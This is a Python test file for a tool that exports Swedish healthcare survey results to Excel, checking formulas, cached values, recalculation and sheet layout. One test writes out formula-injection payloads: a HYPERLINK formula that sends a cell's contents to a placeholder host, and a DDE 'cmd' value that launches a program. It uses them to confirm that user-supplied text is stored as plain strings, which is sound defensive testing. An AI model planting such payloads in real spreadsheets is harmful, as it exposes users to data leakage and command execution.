"""The survey workbook: live formulas, cached values, recalculation and the respondent tables."""

import io
import re
from dataclasses import replace
from pathlib import Path

import formulas
import openpyxl
import pytest

from lagesbild.calc import rules
from lagesbild.ingest.tabular import Table
from lagesbild.ingest.readers import read_path
from lagesbild.reports.survey_xlsx import SUMMARY, sheet_names, write_survey_xlsx
from lagesbild.surveys.engine import compute
from lagesbild.surveys.presenters import describe_rule, present
from lagesbild.surveys.responses import validate
from lagesbild.surveys.spec import load_spec, parse_spec

DEMO = Path(__file__).resolve().parents[2] / "lagesbild" / "surveys" / "demo"

# Socialstyrelsen's published national figures for 2025: (numerator, n, excluded, percent).
PUBLISHED_2025 = {
    "UI1": (13, 16, 5, 81.3),
    "UI2": (15, 20, 1, 75.0),
    "UI3": (13, 19, 2, 68.4),
    "UI4": (4, 20, 1, 20.0),
    "UI5": (2, 20, 1, 10.0),
    "UI6": (3, 20, 1, 15.0),
    "UI7": (2, 20, 1, 10.0),
    "UI8": (16, 17, 4, 94.1),
    "UI9": (10, 12, 9, 83.3),
}
# Summary columns: Täljare, n, Exkluderade, Procent.
FIGURE_COLUMNS = ("D", "E", "F", "G")


@pytest.fixture(scope="module")
def result():
    spec = load_spec(DEMO / "sos-2025.yaml")
    return compute(spec, validate(spec, read_path(DEMO / "sos-2025-svar.csv")))


@pytest.fixture(scope="module")
def previous(result):
    """A made-up comparable earlier year: the same spec answered by the first ten regions."""
    table = read_path(DEMO / "sos-2025-svar.csv")
    spec = replace(result.spec, id="sos-2024-jmf", title="Jämförelseår", year=2024)
    return compute(spec, validate(spec, Table(table.file, table.header, table.rows[:10])))


@pytest.fixture(scope="module")
def workbook(result, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "sos-2025.xlsx"
    write_survey_xlsx(present(result), path)
    return path


def summary_rows(ws) -> dict[str, int]:
    """Indicator id -> row number on the summary sheet (rows below the 'Indikator' header)."""
    header = next(c.row for c in ws["A"] if c.value == "Indikator")
    rows = {}
    for cell in ws["A"][header:]:
        if not cell.value:
            break
        rows[cell.value] = cell.row
    return rows


def recalculated(path: Path, tmp_path: Path) -> dict[tuple[str, str], object]:
    """Recalculate every formula with the `formulas` library, from a copy without cached values.

    openpyxl does not keep cached results when it saves, so nothing the writer cached can leak
    into the result: every value comes from evaluating the formulas.
    """
    stripped = tmp_path / "utan-cache.xlsx"
    openpyxl.load_workbook(path).save(stripped)
    assert_no_cached_formula_values(stripped)
    solution = formulas.ExcelModel().loads(str(stripped)).finish().calculate()
    values = {}
    for key, ranges in solution.items():
        m = re.fullmatch(r"'\[[^\]]+\](.+)'!([A-Z]+[0-9]+)", key)
        if m:
            values[(m.group(1), m.group(2))] = ranges.value[0][0]
    return values


def assert_no_cached_formula_values(path: Path) -> None:
    with_formulas, cached = openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True)
    formula_cells = [
        (ws.title, cell.coordinate)
        for ws in with_formulas.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert formula_cells
    assert all(cached[sheet][coord].value is None for sheet, coord in formula_cells)


def as_python(value):
    """numpy scalars from `formulas` as plain Python numbers; empty strings stay ''."""
    return value if isinstance(value, str) else float(value)


def test_summary_figures_are_formulas_with_cached_values(workbook):
    formulas_ws = openpyxl.load_workbook(workbook)[SUMMARY]
    values_ws = openpyxl.load_workbook(workbook, data_only=True)[SUMMARY]
    row = summary_rows(formulas_ws)["UI1"]
    for col in FIGURE_COLUMNS:
        assert str(formulas_ws[f"{col}{row}"].value).startswith("='UI1'!")
    assert [values_ws[f"{col}{row}"].value for col in FIGURE_COLUMNS] == [13, 16, 5, 81.3]
    assert values_ws[f"B{row}"].value == "Arbetssätt för att identifiera vårdskador i regionerna"
    assert values_ws[f"C{row}"].value == "1. Öka kunskap om inträffade vårdskador"
    assert (values_ws[f"H{row}"].value, values_ws[f"I{row}"].value) == (57.0, 93.4)


def test_every_cached_value_matches_engine_and_published(workbook, result):
    ws = openpyxl.load_workbook(workbook, data_only=True)[SUMMARY]
    rows = summary_rows(ws)
    assert list(rows) == list(PUBLISHED_2025)
    for ind in result.indicators:
        cached = tuple(ws[f"{col}{rows[ind.spec.id]}"].value for col in FIGURE_COLUMNS)
        assert cached == (ind.numerator, ind.n, ind.excluded, float(ind.percent))
        assert cached == PUBLISHED_2025[ind.spec.id]


def test_recalculated_workbook_gives_the_engine_figures(workbook, result, tmp_path):
    values = recalculated(workbook, tmp_path)
    ws = openpyxl.load_workbook(workbook)[SUMMARY]
    rows = summary_rows(ws)
    for ind in result.indicators:
        got = tuple(as_python(values[(SUMMARY.upper(), f"{c}{rows[ind.spec.id]}")]) for c in FIGURE_COLUMNS)
        assert got == (ind.numerator, ind.n, ind.excluded, float(ind.percent)), ind.spec.id
        assert got == PUBLISHED_2025[ind.spec.id]
        # The summary points at the indicator sheet; that sheet's own formulas agree too.
        target = ws[f"G{rows[ind.spec.id]}"].value.split("!")[1].replace("$", "")
        assert as_python(values[(ind.spec.id.upper(), target)]) == float(ind.percent)


def test_indicator_sheet_has_one_row_per_respondent_with_outcomes(workbook, result):
    wb = openpyxl.load_workbook(workbook, data_only=True)
    for ind in result.indicators:
        rows = list(wb[ind.spec.id].iter_rows(values_only=True))
        start = next(i for i, r in enumerate(rows) if r[0] == "Respondent")
        header, table = rows[start], rows[start + 1 :]
        assert list(header) == ["Respondent", "Typ", *ind.spec.questions, "Utfall", "Motivering"]
        assert len(table) == 21 == len(ind.outcomes)
        utfall = header.index("Utfall")
        for values, outcome in zip(table, ind.outcomes):
            assert values[0] == outcome.respondent.key
            assert values[utfall] == outcome.cell  # 1, 0 or None (blank) for excluded
            assert values[utfall + 1] == outcome.reason
        assert sum(v[utfall] is None for v in table) == ind.excluded


def test_indicator_sheet_explains_the_rule(workbook):
    wb = openpyxl.load_workbook(workbook)
    ui3 = list(wb["UI3"].iter_rows(max_col=2, values_only=True))
    labelled = {label: text for label, text in ui3 if label}
    assert ui3[0][0] == "UI3 – Riskbedömning och anpassning vid förändrade förutsättningar i regionerna"
    assert ui3[1][0].startswith("68,4 procent av regionerna har dokumenterade rutiner för hur anpassning")
    assert labelled["Regel"] == "F4 ∈ {Ja} OCH F5 ∈ {Ja, i samtliga verksamheter; Ja, i flertalet verksamheter}"
    assert labelled["Okända svar"].startswith("kleene")
    assert labelled["Fråga F4"].startswith("Finns dokumenterade rutiner för hur anpassning")
    ui9 = {label: text for label, text in wb["UI9"].iter_rows(max_col=2, values_only=True) if label}
    assert ui9["Okända svar"].startswith("strict")


def test_sheet_layout_freezes_and_filters(workbook):
    wb = openpyxl.load_workbook(workbook)
    ws = wb["UI1"]
    header_row = next(c.row for c in ws["A"] if c.value == "Respondent")
    assert ws.freeze_panes == f"B{header_row + 1}"
    assert ws.auto_filter.ref == f"A{header_row}:F{header_row + 21}"
    assert wb.sheetnames == [SUMMARY, *PUBLISHED_2025]
    method = [c.value for c in wb[SUMMARY]["A"] if c.value]
    assert "Så beräknas" in method
    assert any("Procent = AVRUNDA(100 × täljare / n; 1)" in str(v) for v in method)


def test_previous_year_and_change(result, previous, tmp_path):
    """Previous year's figures and the change: cached and recalculated, equal to the presenter's."""
    path = tmp_path / "med-jmf.xlsx"
    report = present(result, previous)
    write_survey_xlsx(report, path)
    ws_f = openpyxl.load_workbook(path)[SUMMARY]
    ws_v = openpyxl.load_workbook(path, data_only=True)[SUMMARY]
    rows = summary_rows(ws_f)
    header = rows["UI1"] - 1
    assert ws_f[f"J{header}"].value == "Föregående år (%)"
    assert ws_f[f"K{header}"].value == "Förändring (procentenheter)"
    values = recalculated(path, tmp_path)
    for r in report.rows:
        row = rows[r.id]
        assert ws_v[f"J{row}"].value == float(r.previous.percent)
        assert as_python(values[(SUMMARY.upper(), f"J{row}")]) == float(r.previous.percent)
        assert str(ws_f[f"K{row}"].value).startswith("=IF(")
        assert ws_v[f"K{row}"].value == float(r.change)
        assert as_python(values[(SUMMARY.upper(), f"K{row}")]) == pytest.approx(float(r.change), abs=1e-9)


def one_indicator(survey_id: str, year: int, answers: list[str]):
    spec = parse_spec(
        f"""
survey: {{id: {survey_id}, title: Enkät {year}, year: {year}}}
questions:
  Q1: {{options: ["Ja", "Nej"]}}
indicators:
  - {{id: I1, title: En fråga, rule: {{question: Q1, in: ["Ja"]}}}}
"""
    )
    table = Table("svar.csv", ["respondent", "Q1"], [(i + 2, [f"R{i}", a]) for i, a in enumerate(answers)])
    return compute(spec, validate(spec, table))


def test_change_comes_from_the_exact_ratios_as_on_the_web(tmp_path):
    """1/3 against 1/6: 33,3 − 16,7 would be 16,6; the exact change is 16,67 → +16,7 as on the web."""
    now = one_indicator("nu", 2025, ["Ja", "Nej", "Nej"])
    before = one_indicator("da", 2024, ["Ja", "Nej", "Nej", "Nej", "Nej", "Nej"])
    report = present(now, before)
    web = report.row("I1")
    assert web.change_text == "+16,7 procentenheter"
    path = tmp_path / "en-tredjedel.xlsx"
    write_survey_xlsx(report, path)
    ws = openpyxl.load_workbook(path, data_only=True)[SUMMARY]
    row = summary_rows(ws)["I1"]
    assert ws[f"K{row}"].value == float(web.change)
    assert as_python(recalculated(path, tmp_path)[(SUMMARY.upper(), f"K{row}")]) == float(web.change)


def test_user_supplied_text_is_written_as_text_not_as_a_formula(tmp_path):
    """A title, statement or answer that looks like a formula stays a string cell."""
    evil = '=HYPERLINK("http://example.invalid/?m="&A1,"Öppna")'
    spec = parse_spec(
        f"""
survey: {{id: x, title: '{evil}', year: 2025}}
questions:
  Q1: {{text: '{evil}', options: ["Ja", "=1+1"]}}
indicators:
  - {{id: '@I1', title: '{evil}', statement: '+{{percent}} {evil}', description: '-{evil}', rule: {{question: Q1, in: ["Ja"]}}}}
"""
    )
    table = Table("svar.csv", ["respondent", "Q1"], [(2, ["=cmd|' /C calc'!A0", "=1+1"]), (3, ["B", "Ja"])])
    path = tmp_path / "formel.xlsx"
    write_survey_xlsx(present(compute(spec, validate(spec, table))), path)
    wb = openpyxl.load_workbook(path)
    texts = [c for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    ours = [c for c in texts if c.data_type == "f"]
    supplied = [c for c in texts if c.data_type != "f"]
    assert {c.value for c in supplied} >= {evil, "=1+1", "=cmd|' /C calc'!A0", "@I1", f"-{evil}"}
    assert all(c.data_type == "s" for c in supplied)
    # The only formulas are the writer's own figures, none of them carries supplied text.
    assert ours and not any("HYPERLINK" in c.value or "cmd" in c.value for c in ours)
    assert wb[SUMMARY]["A1"].value == evil and wb[SUMMARY]["A1"].data_type == "s"


def test_indicator_without_answers_has_empty_percent(tmp_path):
    spec = parse_spec(
        """
survey: {id: tom, title: Tom enkät, year: 2025, missing: ["Vet ej"]}
questions:
  Q1: {options: ["Ja", "Nej", "Vet ej"]}
indicators:
  - {id: "X/1", title: Ingen vet, rule: {question: Q1, in: ["ja"]}}
"""
    )
    table = Table("svar.csv", ["respondent", "Q1"], [(2, ["A", "Vet ej"]), (3, ["B", ""])])
    res = compute(spec, validate(spec, table))
    buffer = io.BytesIO()
    write_survey_xlsx(present(res), buffer)
    path = tmp_path / "tom.xlsx"
    path.write_bytes(buffer.getvalue())
    wb = openpyxl.load_workbook(path, data_only=True)
    assert wb.sheetnames == [SUMMARY, "X_1"]
    ws = wb[SUMMARY]
    row = summary_rows(ws)["X/1"]
    assert [ws[f"{c}{row}"].value for c in FIGURE_COLUMNS] == [0, 0, 2, None]
    values = recalculated(path, tmp_path)
    assert values[(SUMMARY.upper(), f"G{row}")] == ""
    assert wb["X_1"]["B4"].value == "Q1 ∈ {Ja}"


def test_describe_rule_nesting_and_spelling():
    spec = parse_spec(
        """
survey: {id: r, title: Regler, year: 2025}
questions:
  A: {options: ["Ja", "Nej"]}
  B: {options: ["Ja", "Delvis", "Nej"]}
indicators:
  - id: R
    title: Nästlad
    rule:
      any:
        - all: [{question: A, in: ["JA"]}, {question: B, in: ["nej", "delvis"]}]
        - not: {question: B, in: ["Ja"]}
"""
    )
    text = describe_rule(spec.indicators[0].rule, spec.questions)
    assert text == "(A ∈ {Ja} OCH B ∈ {Delvis, Nej}) ELLER INTE (B ∈ {Ja})"
    bare = rules.All((rules.Leaf("Q", frozenset({"x"})), rules.Leaf("R", frozenset({"y"}))))
    assert describe_rule(bare) == "Q ∈ {x} OCH R ∈ {y}"


def test_sheet_names_follow_excel_rules():
    names = sheet_names(["UI1", "ui1", "a/b:c*?[d]", "x" * 40, "Sammanfattning", "History", "'q'"])
    assert names["UI1"] == "UI1"
    assert names["ui1"] == "ui1~2"
    assert names["a/b:c*?[d]"] == "a_b_c___d_"
    assert names["x" * 40] == "x" * 31
    assert names["Sammanfattning"] == "Sammanfattning~2"
    assert names["History"] == "History_"
    assert names["'q'"] == "q"
    assert all(len(n) <= 31 for n in names.values())
    assert len({n.casefold() for n in names.values()}) == len(names)
